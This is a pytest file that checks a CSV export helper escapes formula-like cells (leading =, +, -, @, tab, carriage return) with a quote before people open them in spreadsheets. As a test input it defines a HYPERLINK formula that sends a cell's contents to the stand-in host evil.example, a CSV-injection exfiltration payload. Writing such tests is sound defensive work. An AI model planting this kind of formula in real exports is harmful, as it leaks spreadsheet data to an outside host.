import csv
import io

import polars as pl
import pytest

from ierkit import _csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ann = Able", "Ann = Able"),  # only a leading trigger counts
        ("O'Neil", "O'Neil"),
        ("", ""),
        (None, None),
    ],
)
def test_formula_like_text_cells_get_a_leading_quote(cell: str | None, written: str | None) -> None:
    frame = pl.DataFrame({"recipient_name": [cell]}, schema={"recipient_name": pl.String})
    assert _csv.neutralise_formulas(frame)["recipient_name"].to_list() == [written]


def test_numbers_dates_and_booleans_stay_as_they_are() -> None:
    frame = pl.DataFrame(
        {
            "unique_clicks": [-3, 4],
            "rate": [-0.5, 0.25],
            "followed_up": [True, False],
            "company": ["-Acme", "Acme"],
        }
    )
    out = _csv.neutralise_formulas(frame)
    assert out.schema == frame.schema
    assert out["unique_clicks"].to_list() == [-3, 4]
    assert out["rate"].to_list() == [-0.5, 0.25]
    assert out["company"].to_list() == ["'-Acme", "Acme"]


def test_lazy_in_lazy_out() -> None:
    lazy = pl.LazyFrame({"name": ["=1+1", "ok"]})
    out = _csv.neutralise_formulas(lazy)
    assert isinstance(out, pl.LazyFrame)
    assert out.collect()["name"].to_list() == ["'=1+1", "ok"]


def test_csv_for_people_reads_back_with_the_quote_and_the_numbers() -> None:
    frame = pl.DataFrame({"recipient_name": [HYPERLINK, "Zed One"], "total_clicks": [-1, 7]})
    data = _csv.csv_for_people(frame.lazy())
    back = pl.read_csv(io.BytesIO(data))
    assert back["recipient_name"].to_list() == ["'" + HYPERLINK, "Zed One"]
    assert back["total_clicks"].to_list() == [-1, 7]
    assert back.schema["total_clicks"] == pl.Int64
    # Read as a spreadsheet would: no cell but the number starts with a formula trigger.
    cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    assert [c for c in cells if c.startswith(_csv.FORMULA_TRIGGERS)] == ["-1"]
